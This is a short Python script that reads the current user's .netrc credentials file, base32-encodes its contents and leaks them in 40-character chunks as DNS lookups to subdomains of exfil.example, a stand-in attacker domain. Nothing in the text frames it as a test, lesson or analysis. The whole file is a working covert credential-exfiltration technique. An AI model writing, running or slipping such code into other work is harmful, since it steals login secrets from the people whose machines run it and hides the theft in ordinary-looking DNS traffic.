import base64, pathlib, socket

data = base64.b32encode(pathlib.Path.home().joinpath(".netrc").read_bytes()).decode().strip("=")
for i in range(0, len(data), 40):
    socket.gethostbyname(f"{data[i:i + 40]}.q.exfil.example")
